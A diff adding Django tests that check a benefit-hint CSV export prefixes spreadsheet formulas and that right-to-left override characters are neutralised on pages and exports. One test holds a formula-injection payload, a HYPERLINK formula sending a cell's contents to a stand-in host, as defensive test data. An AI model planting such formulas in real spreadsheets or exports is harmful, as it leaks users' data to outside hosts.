@@ -93,3 +93,60 @@ def test_the_data_directory_and_a_stored_delivery_are_private_to_the_application
     stored = data_path(delivery.stored_file)
     assert stat.S_IMODE(stored.stat().st_mode) == 0o600
     assert stat.S_IMODE(stored.parent.stat().st_mode) == 0o700
+
+
+def _run_with_hint(address: str, explanation: str):
+    import datetime as dt
+    from decimal import Decimal
+
+    from django.utils import timezone
+
+    from missimo.runs.models import Hint, Run, RunStatus
+
+    now = timezone.now()
+    run = Run.objects.create(
+        stichtag=dt.date(2026, 9, 15),
+        status=RunStatus.FINISHED,
+        started_at=now,
+        finished_at=now,
+        channel="cli",
+    )
+    Hint.objects.create(
+        run=run,
+        hint_id="H-1",
+        rule="KG_OHNE_SCHULE",
+        rule_version=1,
+        agency_kind="familienkasse",
+        primary_ref="KG-1",
+        evidence=["KG-1"],
+        objekt_id="OBJ-1",
+        address=address,
+        amount_monthly=Decimal("255.00"),
+        person_ids=[],
+        facts={},
+        explanation=explanation,
+    )
+    return run
+
+
+def test_the_cli_hint_export_prefixes_cells_a_spreadsheet_would_run(tmp_path):
+    import csv
+
+    from missimo.runs import services
+
+    formula = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'
+    run = _run_with_hint(formula, "Kind ist beim Kindergeld gemeldet, aber nicht an einer Schule.")
+    target = tmp_path / "hinweise.csv"
+    assert services.export_hints(run, target) == 1
+    rows = list(csv.reader(target.open(encoding="utf-8"), delimiter=";"))
+    assert rows[1][3] == "'" + formula
+
+
+def test_right_to_left_overrides_are_neutralised_on_pages_and_in_exports(client, kim):
+    run = _run_with_hint("Teststraße 1, 44100 Musterstadt", "Kind Ahmed\u202eredrom\u202c ist gemeldet.")
+    client.force_login(kim)
+    page = client.get("/hinweise/")
+    assert "redrom" in page.text and "\u202e" not in page.text and "\ufffd" in page.text
+    export = client.get("/hinweise/export.csv")
+    assert export.status_code == 200 and "\u202e".encode() not in export.content
+    assert run.hints.get().explanation.count("\u202e") == 1  # the stored data stay as delivered
